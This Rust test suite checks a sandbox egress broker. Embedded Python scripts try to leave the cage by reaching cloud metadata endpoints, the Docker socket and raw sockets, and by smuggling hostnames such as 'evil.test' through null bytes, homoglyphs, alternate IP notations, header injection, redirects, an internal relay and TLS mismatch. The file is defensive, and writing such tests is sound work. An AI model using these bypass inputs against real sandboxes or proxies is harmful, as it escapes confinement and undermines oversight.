//! Attacks from inside a cage that has a way out. What is refused is shown to pass where nothing holds it: from
//! outside, or when it is listed.

use super::{House, OK, call, json, plain, rows, target, tls};
use aecl_executor::{CallResult, Connector as _};
use serde_json::Value;
use std::io::Write as _;
use std::net::{TcpListener, TcpStream};

/// Tells for each line of `asks` what came back first.
const ASK: &str = r#"
import json, os, socket, sys
def ask(raw, port=3128):
    try:
        s = socket.create_connection(("127.0.0.1", port), 5)
        s.settimeout(10)
        s.sendall(raw)
        out = b""
        while True:
            more = s.recv(65536)
            if not more: return out.decode("latin1")
            out += more
    except OSError as e:
        return out.decode("latin1") if "out" in dir() and out else type(e).__name__ + " " + str(e)
def first(text): return text.split("\r\n")[0][:60]
def get(host, port, path="/", more="", method="GET"):
    return ("%s http://%s:%d%s HTTP/1.1\r\nHost: %s:%d\r\n%s\r\n" % (method, host, port, path, host, port, more)).encode("utf8")
def connect(to): return ("CONNECT %s HTTP/1.1\r\n\r\n" % to).encode("utf8")
"#;

fn python(lines: &str) -> String {
    format!("{ASK}{lines}")
}

#[tokio::test]
async fn cases_49_to_57_nothing_but_the_broker_is_there() {
    let canary = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = canary.local_addr().unwrap().port();
    assert!(TcpStream::connect(("127.0.0.1", port)).is_ok(), "the control: it answers outside");
    drop(canary.accept().unwrap());
    let house = House::new(&["web.test"]).await;
    let rules = json!({ "egress": [plain("web.test", 80, &["GET"])] });
    let script = python(&format!(
        r#"
def tries(name, f):
    try: print(name, "WORKS", f())
    except OSError as e: print(name, os.strerror(e.errno) if e.errno and e.errno > 0 else e)
def tcp(to, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3); s.connect(to)
def udp(to): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", to)
tries("49", lambda: tcp(("127.0.0.1", {port})))
tries("50", lambda: udp(("9.9.9.9", 53)))
tries("50b", lambda: socket.getaddrinfo("secret.evil.test", 80))
for at in ("169.254.169.254", "100.100.100.200", "168.63.129.16", "10.0.0.1"): tries("51", lambda: tcp((at, 80)))
tries("51", lambda: tcp(("fd00:ec2::254", 80), socket.AF_INET6))
for family in (17, 40, 38, 44, 15, 31, 30, 21, 43, 42): tries("52", lambda: socket.socket(family, socket.SOCK_DGRAM))
tries("52r", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tries("53", lambda: tcp("\0aecl-canary", socket.AF_UNIX))
tries("54", lambda: tcp("/var/run/docker.sock", socket.AF_UNIX))
import struct, fcntl
s = socket.socket()
print("interfaces", [name for _, name in socket.if_nameindex()])
"#
    ));
    let (said, traffic) = house.python(&script, &rules).await;
    assert!(!said.contains("WORKS"), "{said}");
    assert_eq!(said.matches("Network is unreachable").count(), 6, "{said}");
    assert!(said.contains("49 Connection refused"), "{said}");
    assert_eq!((traffic.let_through + traffic.refused, house.asked().len()), (0, 0), "{traffic:?}");
    canary.set_nonblocking(true).unwrap();
    assert!(canary.accept().is_err(), "nobody came");
}

#[tokio::test]
async fn cases_50_51_59_60_64_65_68_the_broker_refuses_by_name_in_every_notation() {
    let web = target(OK);
    let port = web.port;
    let house = House::new(&["web.test", "secure.test", "evil.test"]).await;
    let rules = json!({ "egress": [plain("web.test", port, &["GET"]), tls("secure.test", port)] });
    let script = python(&format!(
        r#"
P = {port}
print("ok", first(ask(get("web.test", P))), first(ask(get("WEB.test", P))))
asks = [get("secret.evil.test", P), connect("secret.evil.test:443"), connect("evil\0.web.test:443"),
  connect("secure.test.evil.test:%d" % P), connect("secure.test@evil.test:%d" % P), connect("evil.test%%2esecure.test:%d" % P),
  connect("secure.test.:%d" % P), connect("аllowed.test:443"), connect("secure.test:22"), connect("secure.test:25"),
  connect("web.test:%d" % P), get("secure.test", P), get("evil.test", P), get("web.test", P, method="DELETE"),
  get("web.test", P, more="Host: evil.test\r\n"), get("web.test", P, more="Content-Length: 1\r\nTransfer-Encoding: chunked\r\n"),
  get("web.test", P).replace(b"\r\n", b"\n", 1), get("web.test", P, more="X: 1\r\n two\r\n"),
  get("web.test", P).replace(b"http:", b"https:"), b"GET / HTTP/1.1\r\nHost: web.test\r\n\r\n",
  b"\x05\x01\x00\r\n\r\n", b"\x1b[2J\x00\xff\r\n\r\n"]
for host in ("127.0.0.1", "127.1", "2130706433", "0x7f000001", "017700000001", "[::1]", "[::ffff:127.0.0.1]",
             "169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16", "localhost", "0"):
    asks += [connect("%s:%d" % (host, P)), get(host, P)]
for raw in asks: print(first(ask(raw)))
"#
    ));
    let (said, traffic) = house.python(&script, &rules).await;
    let mut lines = said.lines();
    assert_eq!(lines.next(), Some("ok HTTP/1.1 200 OK HTTP/1.1 200 OK"), "{said}");
    let refused = lines.filter(|l| l.starts_with("HTTP/1.1 40")).count();
    assert_eq!((refused, web.connections()), (48, 2), "{said}");
    assert_eq!((traffic.let_through, traffic.refused), (2, 48));
    assert_eq!(house.asked(), ["web.test", "web.test"], "no name leaves by a look-up");
    let json = serde_json::to_string(&traffic).unwrap();
    assert!(json.contains("secret.evil.test:443") && json.contains("<0>"), "{json}");
    assert!(json.bytes().all(|b| (b' '..=b'~').contains(&b)), "{json}");
}

#[tokio::test]
async fn cases_61_62_66_67_addresses_are_judged_for_each_connection() {
    let moved = target(
        b"HTTP/1.1 302 Found\r\nlocation: http://169.254.169.254/latest\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
    );
    let port = moved.port;
    let house = House::new(&["moved.test"]).await;
    let answers = |name: &str, list: &[&[&str]]| {
        let list = list.iter().map(|one| one.iter().map(|a| a.parse().unwrap()).collect()).collect();
        house.names.answers.lock().unwrap().insert(name.into(), list);
    };
    answers("mixed.test", &[&["1.1.1.1", "10.0.0.1"]]);
    answers("turns.test", &[&["127.0.0.1"], &["169.254.169.254"]]);
    let rules = json!({ "egress": [
        plain("moved.test", port, &["GET"]), plain("turns.test", port, &["GET"]),
        { "host": "mixed.test", "port": port, "methods": ["GET"] },
    ] });
    // The relay is a program of its own in the same cage that passes on whatever others ask.
    let script = python(&format!(
        r#"
import subprocess, threading
P = {port}
print("61", first(ask(get("mixed.test", P))))
print("62", first(ask(get("turns.test", P))), "|", first(ask(get("turns.test", P))))
print("66", subprocess.run(["curl", "-sL", "-o", "/dev/null", "-w", "%{{http_code}}", "http://moved.test:%d/" % P],
      capture_output=True, text=True).stdout)
door = socket.create_server(("127.0.0.1", 4000))
def relay():
    while True:
        one, _ = door.accept(); other = socket.create_connection(("127.0.0.1", 3128))
        other.sendall(one.recv(65536)); one.sendall(other.recv(65536)); one.close(); other.close()
threading.Thread(target=relay, daemon=True).start()
print("67", first(ask(get("moved.test", P), 4000)), "|", first(ask(get("evil.test", P), 4000)))
"#
    ));
    let (said, traffic) = house.python(&script, &rules).await;
    assert!(said.contains("61 HTTP/1.1 403 `mixed.test` is at `10.0.0.1` (private network)"), "{said}");
    assert!(said.contains("62 HTTP/1.1 302 Found | HTTP/1.1 403 `turns.test` is at"), "{said}");
    assert!(said.contains("66 403"), "{said}");
    assert!(said.contains("67 HTTP/1.1 302 Found | HTTP/1.1 403 "), "{said}");
    assert!(traffic.connections.iter().any(|c| c.why.contains("cloud metadata")), "{:?}", rows(&traffic));
}

#[tokio::test]
async fn case_63_a_tunnel_carries_tls_for_its_host_or_nothing() {
    let web = target(b"tls answer");
    let house = House::new(&["secure.test"]).await;
    let rules = json!({ "egress": [tls("secure.test", web.port)] });
    let hex = |bytes: Vec<u8>| bytes.iter().map(|b| format!("{b:02x}")).collect::<String>();
    let inside = ["secure.test", "evil.test", ""].map(|name| hex(super::world::hello(name)));
    let script = python(&format!(
        r#"
for inside in {inside:?} + ["{}"]:
    s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(10)
    s.sendall(connect("secure.test:{}")); s.recv(39)
    s.sendall(bytes.fromhex(inside))
    s.shutdown(socket.SHUT_WR)
    try: print(s.recv(100))
    except OSError as e: print(b"")
"#,
        hex(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n".to_vec()),
        web.port
    ));
    let (said, traffic) = house.python(&script, &rules).await;
    assert_eq!(said, "b'tls answer'\nb''\nb''\nb''\n");
    assert_eq!((traffic.let_through, traffic.refused), (1, 3));
    assert_eq!(web.got().iter().filter(|got| !got.is_empty()).count(), 1, "nothing else arrived");
}

#[tokio::test]
async fn cases_70_and_71_without_the_broker_there_is_no_way_and_a_flood_hurts_nobody() {
    let web = target(OK);
    let house = House::new(&["web.test"]).await;
    let rules = json!({ "egress": [plain("web.test", web.port, &["GET"])],
        "egress_limits": { "connections": 300, "at_once": 4, "head_ms": 500 } });
    let script = python(&format!(
        r#"
P = {}
print(first(ask(get("web.test", P))))
came = {{}}
open_ = []
for n in range(1000):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 2); s.settimeout(2)
        if n < 50: open_.append(s); s.sendall(b"GET http://")
        else: s.sendall(get("evil%d.test" % n, P)); s.recv(99); s.close()
    except OSError as e: came[type(e).__name__] = came.get(type(e).__name__, 0) + 1
print(sorted(came))
print(first(ask(get("web.test", P))))
try: socket.create_connection(("127.0.0.1", P), 2); print("direct WORKS")
except OSError as e: print(e.strerror)
"#,
        web.port
    ));
    let (said, traffic) = house.python(&script, &rules).await;
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines[0], "HTTP/1.1 200 OK");
    assert!(lines[2].contains("Connection refused"), "after the last one the door is shut: {said}");
    assert_eq!(lines[3], "Connection refused", "{said}");
    assert_eq!(traffic.let_through + traffic.refused, 300, "{traffic:?}");
    assert!(traffic.unlisted > 0 && traffic.connections.len() <= 48, "{}", traffic.connections.len());
}

#[tokio::test]
async fn case_72_each_program_has_its_own_list() {
    let web = target(OK);
    let house = House::new(&["a.test", "b.test"]).await;
    let one = |host: &str| {
        let rules = json!({ "egress": [plain(host, web.port, &["GET"])] });
        call(
            &[
                "sh",
                "-c",
                &format!(
                    "sleep 0.2; for h in a b; do curl -s -o /dev/null -w '%{{http_code}} ' http://$h.test:{}/; done",
                    web.port
                ),
            ],
            &rules,
        )
    };
    let (a, b) = (one("a.test"), one("b.test"));
    let both = tokio::join!(house.connector.perform(&a), house.connector.perform(&b));
    let said = |performed: CallResult| match performed {
        CallResult::Done { output, .. } => {
            serde_json::from_slice::<Value>(&output).unwrap()["stdout"].as_str().unwrap().to_owned()
        }
        other => panic!("{other:?}"),
    };
    assert_eq!((said(both.0), said(both.1)), ("200 403 ".into(), "403 200 ".into()));
    drop(std::io::stdout().flush());
}
